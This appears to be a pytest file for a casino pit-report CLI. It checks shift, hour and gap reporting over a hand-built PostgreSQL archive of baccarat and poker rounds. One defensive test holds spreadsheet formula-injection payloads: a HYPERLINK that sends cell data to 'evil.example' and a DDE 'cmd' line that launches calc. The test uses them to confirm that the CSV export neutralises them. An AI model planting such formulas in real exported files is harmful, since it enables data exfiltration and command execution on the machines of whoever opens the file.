"""`tablectl report` against a real PostgreSQL: a small site's archive written by hand, and every
section of the report worked out by hand from it (times in Europe/Berlin, UTC+1 in March 2024).

The site (local times, 1-2 March 2024):

- bac-01, baccarat: rounds 1 (13:10, player wins) and 2 (13:40, banker) in the day shift; round 3
  (14:05, tie), an alarm and a void of round 4 (14:19, 14:20), round 5 (14:30, banker wins with
  6: pays 1 to 2), round 6 (15:10, player) and round 7 (15:40, banker) in the swing shift. Seats
  1, 2, 3 and 4 pass the player-dealer position round. Seqs 19-21 are an unfillable gap (the
  table had pruned them), seq 24 a gap that was filled.
- bac-02, baccarat, across midnight: round 1 at 21:50 (swing), rounds 2 and 3 at 22:10 and 00:30
  (both the grave shift of 1 March), round 4 voided at 05:59:59 (still that grave shift), round
  5 at 06:00:00 sharp (the day shift of 2 March). Seqs 6-7 are an open gap.
- tcp-01, Three Card Poker: one round at 10:00 with three seats (two win, one folded).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit
from zoneinfo import ZoneInfo

import pytest
from archive_rows import ArchiveRows

from controller.pit.report.output import write_csv, write_text
from controller.pit.report.query import Period, build, wager_outcomes
from controller.pit.report.shifts import DEFAULT_SHIFTS, ShiftError, Shifts, site_zone
from games.baccarat.rules import outcome
from games.cards import cards
from games.three_card_poker.rules import settle

TABLECTL = [sys.executable, "-m", "controller.cli"]
BERLIN = ZoneInfo("Europe/Berlin")
SHIFTS = Shifts.parse(DEFAULT_SHIFTS)

PLAYER = ("2H 5C", "KD 6S")          # P 7, B 6: the player wins, 1 to 1
BANKER = ("2H 4C", "3D 4S")          # P 6, B 7: the banker wins, 1 to 1
TIE = ("2H 5C", "3D 4S")             # 7 and 7: tie pays 8 to 1, player and banker push
BANKER_SIX = ("KH 5C 10D", "QS 6D")  # P 5 on three cards, B 6 stands: the banker wins with 6, 1 to 2


def bac(hands: tuple[str, str], player_dealer: int) -> dict:
    return outcome(cards(hands[0]), cards(hands[1])).to_dict() | {"player_dealer": player_dealer}


def t(when: str) -> str:
    """``03-01T13:10`` -> that local time in Berlin, March 2024."""
    return f"2024-{when}+01:00"


def pd(seat: int, consecutive: int, change: str) -> dict:
    return {"seat": seat, "consecutive": consecutive, "change": change}


def start(round_: int, player_dealer: int | None) -> dict:
    return {"round": round_, "player_dealer": player_dealer, "last_of_shoe": False}


MISREAD = {"code": "shoe_misread", "severity": "fault",
           "message": "a card left the shoe unread (shoe misread): the layout no longer matches what was read",
           "card": None, "expected": None, "missing": [], "extra": [],
           "action": "void the round (dealer's void button or pit cmd/void)"}


@pytest.fixture
def site(pg_url: str) -> str:
    rows = ArchiveRows(pg_url)
    rows.table("bac-01", "baccarat")
    rows.table("bac-02", "baccarat")
    rows.table("tcp-01", "three_card_poker")
    e = rows.event
    e("bac-01", t("03-01T13:02"), "round_start", start(1, 1), 1)
    e("bac-01", t("03-01T13:10"), "result", bac(PLAYER, 1), 1)
    e("bac-01", t("03-01T13:11"), "player_dealer", pd(1, 1, "kept"), 1)
    e("bac-01", t("03-01T13:30"), "round_start", start(2, 1), 2)
    e("bac-01", t("03-01T13:40"), "result", bac(BANKER, 1), 2)
    e("bac-01", t("03-01T13:41"), "player_dealer", pd(2, 0, "offered"), 2)
    e("bac-01", t("03-01T13:50"), "player_dealer", pd(2, 0, "passed"), 2)
    e("bac-01", t("03-01T13:50"), "player_dealer", pd(3, 0, "offered"), 2)
    e("bac-01", t("03-01T13:55"), "player_dealer", pd(3, 0, "accepted"), 2)
    e("bac-01", t("03-01T13:56"), "round_start", start(3, 3), 3)
    e("bac-01", t("03-01T14:05"), "result", bac(TIE, 3), 3)
    e("bac-01", t("03-01T14:06"), "player_dealer", pd(3, 1, "kept"), 3)
    e("bac-01", t("03-01T14:10"), "round_start", start(4, 3), 4)
    e("bac-01", t("03-01T14:19"), "alarm", MISREAD, 4)
    e("bac-01", t("03-01T14:20"), "void", {"round": 4, "reason": "shoe misread", "by": "pit"}, 4)
    e("bac-01", t("03-01T14:22"), "round_start", start(5, 3), 5)
    e("bac-01", t("03-01T14:30"), "result", bac(BANKER_SIX, 3), 5)
    e("bac-01", t("03-01T14:31"), "player_dealer", pd(4, 0, "offered"), 5)               # seq 18
    e("bac-01", t("03-01T15:10"), "result", bac(PLAYER, 4), 6, seq=22)                     # 19-21 lost
    e("bac-01", t("03-01T15:12"), "round_start", start(7, 4), 7)
    e("bac-01", t("03-01T15:40"), "result", bac(BANKER, 4), 7)                            # seq 24
    rows.gap("bac-01", 19, 21, "unfillable", "refused: seqs before 30 were pruned from the journal",
             asked=1, opened="2024-03-01T15:10:01+01:00", closed="2024-03-01T15:10:02+01:00")
    rows.gap("bac-01", 24, 24, "filled", asked=1, closed="2024-03-01T15:41:00+01:00")
    e("bac-02", t("03-01T21:50"), "result", bac(PLAYER, 1), 1)
    e("bac-02", t("03-01T22:10"), "result", bac(BANKER, 1), 2)
    e("bac-02", t("03-02T00:30"), "result", bac(BANKER, 2), 3)
    e("bac-02", t("03-02T05:59:59"), "void", {"round": 4, "reason": "dealer pressed void", "by": "dealer"}, 4)
    e("bac-02", t("03-02T06:00:00"), "result", bac(TIE, 2), 5)                            # seq 5
    e("bac-02", t("03-02T06:30"), "round_start", start(6, 2), 6, seq=8)                   # 6-7 missing
    rows.gap("bac-02", 6, 7, "open", asked=2, opened="2024-03-02T06:30:01+01:00")
    tcp = settle(cards("QS 7H 2D"), {2: (cards("AS KH 3C"), True), 3: (cards("5D 6D 7D"), True),
                                     4: (cards("2C 3H 9S"), False)}) | {"player_dealer": 1}
    e("tcp-01", t("03-01T10:00"), "result", tcp, 1)
    rows.close()
    return pg_url


def report(url: str, *, since: str | None = None, until: str | None = None, tables: tuple[str, ...] = (),
           shifts: Shifts = SHIFTS, zone: ZoneInfo = BERLIN):
    import psycopg

    period = Period(datetime.fromisoformat(since) if since else None,
                    datetime.fromisoformat(until) if until else None)
    with psycopg.connect(url) as conn:
        return build(conn, period, zone, str(zone), shifts, tables)


def local(text: str) -> datetime:
    return datetime.fromisoformat(f"2024-{text}").replace(tzinfo=BERLIN)


# -- each section, worked out by hand --------------------------------------------------------

def test_hands_per_hour_count_results_and_put_voids_beside_them(site: str) -> None:
    got = [(h.table, h.hour, h.hands, h.voids) for h in report(site).hands]
    assert got == [
        ("bac-01", local("03-01T13:00"), 2, 0),
        ("bac-01", local("03-01T14:00"), 2, 1),    # tie, banker six; round 4 voided
        ("bac-01", local("03-01T15:00"), 2, 0),
        ("bac-02", local("03-01T21:00"), 1, 0),
        ("bac-02", local("03-01T22:00"), 1, 0),
        ("bac-02", local("03-02T00:00"), 1, 0),
        ("bac-02", local("03-02T05:00"), 0, 1),    # an hour with a void and no hand
        ("bac-02", local("03-02T06:00"), 1, 0),
        ("tcp-01", local("03-01T10:00"), 1, 0),
    ]


def test_results_by_shift_count_each_wager_outcome_and_a_grave_shift_keeps_the_night(site: str) -> None:
    got = {(b.table, b.game, b.day, b.shift.name): (b.hands, b.voids, dict(b.outcomes)) for b in report(site).results}
    assert list(got) == [
        ("bac-01", "baccarat", date(2024, 3, 1), "day"),
        ("bac-01", "baccarat", date(2024, 3, 1), "swing"),
        ("bac-02", "baccarat", date(2024, 3, 1), "swing"),
        ("bac-02", "baccarat", date(2024, 3, 1), "grave"),   # 22:10, 00:30 and the void at 05:59:59
        ("bac-02", "baccarat", date(2024, 3, 2), "day"),     # 06:00:00 sharp
        ("tcp-01", "three_card_poker", date(2024, 3, 1), "day"),
    ]
    by = list(got.values())
    # rounds 1 (player) and 2 (banker)
    assert by[0] == (2, 0, {("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1, ("tie", "lose", ""): 2,
                            ("player", "lose", ""): 1, ("banker", "win", "1 to 1"): 1})
    # rounds 3 (tie), 5 (banker with 6), 6 (player), 7 (banker); round 4 voided
    assert by[1] == (4, 1, {("player", "push", ""): 1, ("banker", "push", ""): 1, ("tie", "win", "8 to 1"): 1,
                            ("player", "lose", ""): 2, ("banker", "win", "1 to 2"): 1, ("tie", "lose", ""): 3,
                            ("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1,
                            ("banker", "win", "1 to 1"): 1})
    assert by[2] == (1, 0, {("player", "win", "1 to 1"): 1, ("banker", "lose", ""): 1, ("tie", "lose", ""): 1})
    assert by[3] == (2, 1, {("player", "lose", ""): 2, ("banker", "win", "1 to 1"): 2, ("tie", "lose", ""): 2})
    assert by[4] == (1, 0, {("player", "push", ""): 1, ("banker", "push", ""): 1, ("tie", "win", "8 to 1"): 1})
    # seat 2 (ace high) and seat 3 (straight flush) beat a qualifying queen high; seat 4 folded
    assert by[5] == (1, 0, {("ante", "win", "1 to 1"): 2, ("play", "win", "1 to 1"): 2, ("bonus", "lose", ""): 2,
                            ("bonus", "win", "40 to 1"): 1, ("ante", "lose", ""): 1})


def test_alarms_and_voids_with_their_reasons_in_order(site: str) -> None:
    got = [(a.table, a.time, a.seq, a.round, a.event, a.severity, a.code, a.by, a.reason, a.action)
           for a in report(site).alarms]
    assert got == [
        ("bac-01", local("03-01T14:19"), 14, 4, "alarm", "fault", "shoe_misread", "", MISREAD["message"],
         MISREAD["action"]),
        ("bac-01", local("03-01T14:20"), 15, 4, "void", "", "", "pit", "shoe misread", ""),
        ("bac-02", local("03-02T05:59:59"), 4, 4, "void", "", "", "dealer", "dealer pressed void", ""),
    ]


def test_rotation_history(site: str) -> None:
    got = [(r.table, r.seq, r.round, r.seat, r.change, r.consecutive) for r in report(site).rotation]
    assert got == [("bac-01", 3, 1, 1, "kept", 1), ("bac-01", 6, 2, 2, "offered", 0),
                   ("bac-01", 7, 2, 2, "passed", 0), ("bac-01", 8, 2, 3, "offered", 0),
                   ("bac-01", 9, 2, 3, "accepted", 0), ("bac-01", 12, 3, 3, "kept", 1),
                   ("bac-01", 18, 5, 4, "offered", 0)]


def test_gaps_open_and_unfillable_with_the_events_around_them_and_never_the_filled(site: str) -> None:
    got = [(g.table, g.first_seq, g.last_seq, g.missing, g.status, g.reason, g.asked, g.after, g.before)
           for g in report(site).gaps]
    assert got == [
        ("bac-01", 19, 21, 3, "unfillable", "refused: seqs before 30 were pruned from the journal", 1,
         local("03-01T14:31"), local("03-01T15:10")),
        ("bac-02", 6, 7, 2, "open", "", 2, local("03-02T06:00"), local("03-02T06:30")),
    ]


def test_a_period_and_a_table_narrow_every_section(site: str) -> None:
    r = report(site, since="2024-03-01T14:00+01:00", until="2024-03-02T00:00+01:00")
    assert [(h.table, h.hour.hour, h.hands, h.voids) for h in r.hands] == [
        ("bac-01", 14, 2, 1), ("bac-01", 15, 2, 0), ("bac-02", 21, 1, 0), ("bac-02", 22, 1, 0)]
    assert [(b.table, b.shift.name, b.hands, b.voids) for b in r.results] == [
        ("bac-01", "swing", 4, 1), ("bac-02", "swing", 1, 0), ("bac-02", "grave", 1, 0)]
    assert [a.seq for a in r.alarms] == [14, 15]
    assert [p.seq for p in r.rotation] == [12, 18]
    # bac-01's lost seqs fall between 14:31 and 15:10; bac-02's come after 06:00 on the 2nd
    assert [(g.table, g.first_seq) for g in r.gaps] == [("bac-01", 19)]
    r = report(site, tables=("bac-02",))
    assert {h.table for h in r.hands} == {"bac-02"} and [g.first_seq for g in r.gaps] == [6]
    assert r.rotation == [] and [a.seq for a in r.alarms] == [4]


def test_an_hour_the_clocks_go_back_is_two_hours(pg_url: str) -> None:
    """New York, 3 November 2024: 01:00-02:00 happens twice (EDT, then EST)."""
    rows = ArchiveRows(pg_url)
    rows.table("bac-09", "baccarat")
    rows.event("bac-09", "2024-11-03T01:30:00-04:00", "result", bac(PLAYER, 1), 1)
    rows.event("bac-09", "2024-11-03T01:30:00-05:00", "result", bac(BANKER, 1), 2)
    rows.event("bac-09", "2024-11-03T01:40:00-05:00", "result", bac(TIE, 1), 3)
    rows.close()
    york = ZoneInfo("America/New_York")
    r = report(pg_url, zone=york)
    assert [(h.hour.isoformat(), h.hands) for h in r.hands] == [("2024-11-03T01:00:00-04:00", 1),
                                                                 ("2024-11-03T01:00:00-05:00", 2)]
    # the grave shift of 2 November ran 9 hours and holds all three
    assert [(b.day, b.shift.name, b.hands) for b in r.results] == [(date(2024, 11, 2), "grave", 3)]


# -- the pieces ------------------------------------------------------------------------------

def test_wager_outcomes_read_the_one_wager_shape_whatever_the_game() -> None:
    assert sorted(wager_outcomes(bac(BANKER_SIX, 1))) == [("banker", "win", "1 to 2"), ("player", "lose", ""),
                                                          ("tie", "lose", "")]
    surrender = {"seats": {"2": {"hands": [{"wagers": [{"wager": "bet", "outcome": "lose", "pays": None,
                                                         "why": "surrendered", "stake": "1/2"}]}]}}}
    assert wager_outcomes(surrender) == [("bet", "lose", "stake 1/2")]
    # a seat number is never taken for a wager's name; a poker-room hand settles no wager
    assert wager_outcomes({"seats": {"3": {"outcome": "win"}}}) == []
    assert wager_outcomes({"showdown": {"high": [2], "low": [], "pot": "high"}, "collection": {"fee": 300}}) == []


@pytest.mark.parametrize(("spec", "when", "expect"), [
    (DEFAULT_SHIFTS, "2024-03-01T05:59:59", ("2024-02-29", "grave")),
    (DEFAULT_SHIFTS, "2024-03-01T06:00:00", ("2024-03-01", "day")),
    (DEFAULT_SHIFTS, "2024-03-01T23:59:00", ("2024-03-01", "grave")),
    (DEFAULT_SHIFTS, "2024-03-02T00:00:00", ("2024-03-01", "grave")),
    ("a=07:30-19:30,b=19:30-07:30", "2024-03-01T07:29:00", ("2024-02-29", "b")),
    ("a=07:30-19:30,b=19:30-07:30", "2024-03-01T19:29:00", ("2024-03-01", "a")),
    ("all=04-04", "2024-03-01T03:00:00", ("2024-02-29", "all")),
    ("early=00-12,late=12-24", "2024-03-01T12:00:00", ("2024-03-01", "late")),
])
def test_a_moment_falls_in_one_shift_of_the_day_it_started(spec: str, when: str, expect: tuple[str, str]) -> None:
    day, shift = Shifts.parse(spec).of(datetime.fromisoformat(when).replace(tzinfo=BERLIN))
    assert (day.isoformat(), shift.name) == expect


@pytest.mark.parametrize(("spec", "why"), [
    ("day=06-14,swing=14-22", "the shifts must cover the day once: nothing covers 22:00-06:00"),
    ("day=06-15,swing=14-06", "the shifts must cover the day once: day 06:00-15:00 overlaps swing 14:00-06:00"),
    ("a=06-08,b=07-06", "a 06:00-08:00 overlaps b 07:00-06:00"),
    ("day=6to14", "'day=6to14' is not NAME=HH-HH"),
    ("day=06-14,day=14-06", "shift 'day' is named twice"),
    ("day=25-14,night=14-25", "'day=25-14': 25 is not a time of day"),
    ("a=06-06,b=06-07", "a shift that starts when it ends is the whole day: it must be the only one"),
])
def test_shifts_that_do_not_cover_the_day_once_are_refused_naming_why(spec: str, why: str) -> None:
    with pytest.raises(ShiftError) as caught:
        Shifts.parse(spec)
    assert why in str(caught.value)


def test_the_zone_is_the_machines_unless_named() -> None:
    assert site_zone("Europe/Berlin")[1] == "Europe/Berlin"
    with pytest.raises(ShiftError, match="'Mars/Olympus': not a time zone name"):
        site_zone("Mars/Olympus")


# -- the formats -----------------------------------------------------------------------------

def test_text_aligns_the_columns_and_shows_every_section(site: str) -> None:
    out = io.StringIO()
    write_text(report(site), ("hands", "results", "alarms", "rotation", "gaps"), out)
    lines = out.getvalue().splitlines()
    assert lines[0] == "Pit report from the first event to the last event (tables' clocks, shown in Europe/Berlin)"
    assert lines[1] == "Shifts: day 06:00-14:00, swing 14:00-22:00, grave 22:00-06:00"
    hands = lines.index("TABLE   HOUR                    HANDS  VOIDS")
    assert lines[hands + 1:hands + 4] == ["bac-01  2024-03-01 13:00+01:00      2      0",
                                          "        2024-03-01 14:00+01:00      2      1",
                                          "        2024-03-01 15:00+01:00      2      0"]
    grave = next(i for i, line in enumerate(lines) if "grave" in line and line.startswith("bac-02"))
    assert lines[grave].split() == ["bac-02", "baccarat", "2024-03-01", "grave", "2", "1", "banker", "win",
                                    "1", "to", "1", "2"]
    assert lines[grave + 1].split() == ["player", "lose", "2"]   # the block's table and shift left blank
    assert any(line.startswith("bac-01  2024-03-01 14:19:00+01:00   14      4  alarm  fault     shoe_misread") for line in lines)
    assert "GAPS: EVENTS THE ARCHIVE DOES NOT HOLD" in lines


def test_a_report_without_its_gaps_section_still_says_what_is_missing(site: str) -> None:
    out = io.StringIO()
    write_text(report(site), ("hands",), out)
    assert out.getvalue().splitlines()[-1] == (
        "MISSING: 5 events of bac-01, bac-02 are not in the archive (2 gaps, 1 unfillable): the counts are "
        "short by them; tablectl report --only gaps")


def test_csv_rows_are_whole(site: str) -> None:
    out = io.StringIO()
    assert write_csv(report(site, tables=("tcp-01",)), "results", out) == 5
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["table", "game", "shift_date", "shift", "hands", "voids", "wager", "outcome", "terms", "count"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "ante", "lose", "", "1"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "ante", "win", "1 to 1", "2"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "bonus", "lose", "", "2"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "bonus", "win", "40 to 1", "1"],
        ["tcp-01", "three_card_poker", "2024-03-01", "day", "1", "0", "play", "win", "1 to 1", "2"],
    ]


def test_csv_text_a_spreadsheet_would_run_is_written_as_text(pg_url: str) -> None:
    """A table's text (a void's reason, an alarm's message and action) is anyone's to write: a cell
    starting ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading ``'`` so a spreadsheet shows it,
    never runs it; numbers stay numbers."""
    rows = ArchiveRows(pg_url)
    rows.table("bac-09", "baccarat")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows.event("bac-09", t("03-01T13:00"), "alarm", MISREAD | {"message": "+cmd|' /C calc'!A0",
                                                                "action": "@SUM(1+1)*cmd"}, 1)
    rows.event("bac-09", t("03-01T13:01"), "void", {"round": 1, "reason": evil, "by": "pit"}, 1)
    rows.event("bac-09", t("03-01T13:02"), "alarm", MISREAD | {"message": "\t=1+1", "action": "\r=1"}, 2)
    rows.event("bac-09", t("03-01T13:03"), "void", {"round": 2, "reason": "-2+3", "by": "dealer"}, 2)
    rows.event("bac-09", t("03-01T13:04"), "void", {"round": 3, "reason": "shoe misread", "by": "pit"}, 3)
    rows.close()
    out = io.StringIO()
    assert write_csv(report(pg_url), "alarms", out) == 5
    got = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert got[0] == ["table", "time", "seq", "round", "event", "severity", "code", "by", "reason", "action"]
    alarm, void, alarm2, void2, plain = got[1:]
    assert alarm[2:4] == ["1", "1"] and alarm[8:] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"]
    assert void[2:4] == ["2", "1"] and void[7:9] == ["pit", "'" + evil]
    assert alarm2[8:] == ["'\t=1+1", "'\r=1"]
    assert void2[7:9] == ["dealer", "'-2+3"]
    assert plain[7:9] == ["pit", "shoe misread"]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in got for cell in row)


# -- the command, end to end ------------------------------------------------------------------

def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*TABLECTL, "report", *args], capture_output=True, text=True, timeout=60,
                          env={**os.environ, **(env or {})})


def test_the_command_writes_one_csv_file_per_section(site: str, tmp_path: Path) -> None:
    out = tmp_path / "march"
    proc = run("--db", site, "--tz", "Europe/Berlin", "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == [f"{out}/hands.csv: 9 rows", f"{out}/results.csv: 28 rows",
                                        f"{out}/alarms.csv: 3 rows", f"{out}/rotation.csv: 7 rows",
                                        f"{out}/gaps.csv: 2 rows"]
    with (out / "hands.csv").open(newline="") as f:
        hands = list(csv.DictReader(f))
    assert [(h["table"], h["hour"], h["hands"], h["voids"]) for h in hands][3:5] == [
        ("bac-02", "2024-03-01 21:00+01:00", "1", "0"), ("bac-02", "2024-03-01 22:00+01:00", "1", "0")]
    with (out / "gaps.csv").open(newline="") as f:
        gaps = list(csv.DictReader(f))
    assert gaps[0] == {"table": "bac-01", "first_seq": "19", "last_seq": "21", "missing": "3",
                       "status": "unfillable", "reason": "refused: seqs before 30 were pruned from the journal",
                       "asked": "1", "after": "2024-03-01 14:31:00+01:00", "before": "2024-03-01 15:10:00+01:00",
                       "opened_at": "2024-03-01 15:10:01+01:00", "closed_at": "2024-03-01 15:10:02+01:00"}


def test_the_command_prints_text_in_the_machines_zone_and_one_csv_section_on_stdout(site: str) -> None:
    proc = run("--db", site, "--since", "2024-03-02", "--table", "bac-02", env={"TZ": "Europe/Berlin"})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == ("Pit report from 2024-03-02 00:00:00+01:00 to the last event "
                                           "(tables' clocks, shown in Europe/Berlin)")
    assert "bac-02  2024-03-02 00:00+01:00      1      0" in proc.stdout
    assert "bac-01" not in proc.stdout
    proc = run("--db", site, "--tz", "UTC", "--format", "csv", "--only", "alarms", "--until", "2024-03-02")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert [r[:5] for r in rows[1:]] == [["bac-01", "2024-03-01 13:19:00+00:00", "14", "4", "alarm"],
                                         ["bac-01", "2024-03-01 13:20:00+00:00", "15", "4", "void"]]
    assert proc.stderr.startswith("MISSING: 3 events of bac-01")   # the gap is said, off the CSV


@pytest.mark.parametrize(("args", "error"), [
    (["--db", "mysql://pit@db/pit"], "--db mysql://pit@db/pit: not a PostgreSQL URL"),
    (["--db", "postgresql://pit:s3cret@127.0.0.1:1/pit"],
     "cannot open the archive at postgresql://pit:***@127.0.0.1:1/pit: connection failed"),
    (["--db", "postgresql://pit@127.0.0.1:notaport/pit"], "not a PostgreSQL URL (Port could not be cast"),
    (["--since", "yesterday"], "--since 'yesterday': not an ISO 8601 date or time"),
    (["--since", "2024-03-02", "--until", "2024-03-01"], "--until 2024-03-01 is not after --since 2024-03-02"),
    (["--tz", "Europe/Atlantis"], "--tz 'Europe/Atlantis': not a time zone name"),
    (["--shifts", "day=06-14"], "--shifts 'day=06-14': the shifts must cover the day once: nothing covers 14:00-06:00"),
    (["--table", "bac 01"], "--table 'bac 01': not a table id"),
    (["--format", "csv"], "CSV is one section per file: give --out DIR"),
])
def test_each_wrong_option_is_one_line_and_exit_2(args: list[str], error: str) -> None:
    argv = args if "--db" in args else ["--db", "postgresql://pit@127.0.0.1:1/pit", *args]
    proc = run(*argv)
    assert proc.returncode == 2, proc
    assert proc.stdout == ""
    assert len(proc.stderr.splitlines()) == 1 and proc.stderr.startswith("tablectl report: "), proc.stderr
    assert error in proc.stderr, proc.stderr
    assert "s3cret" not in proc.stderr


def test_a_database_that_is_not_the_archive_or_not_there(postgres, pg_url: str) -> None:
    proc = run("--db", pg_url)
    assert (proc.returncode, proc.stderr) == (2, "tablectl report: this database holds no pit archive (no table "
                                                 "events, gaps, tables): is it the one tablectl pit writes to?\n")
    proc = run("--db", postgres.url("nosuchdb"))
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1
    assert 'database "nosuchdb" does not exist' in proc.stderr


def test_a_read_the_database_refuses_is_one_line_and_exit_1(site: str) -> None:
    """A role that may connect but not read the archive (a grant forgotten): the report says what
    the server said, on one line."""
    import psycopg

    parts = urlsplit(site)
    role = f"reader_{parts.path.strip('/')}"   # roles are the server's, not the database's: one per test
    with psycopg.connect(site, autocommit=True) as conn:
        conn.execute(f'CREATE ROLE "{role}" LOGIN')
    url = urlunsplit(parts._replace(netloc=f"{role}@{parts.hostname}:{parts.port}"))
    proc = run("--db", url)
    assert proc.returncode == 1 and proc.stdout == "", proc
    assert len(proc.stderr.splitlines()) == 1
    assert proc.stderr.startswith(f"tablectl report: reading the archive at {url} failed: ")
    assert "permission denied for table" in proc.stderr
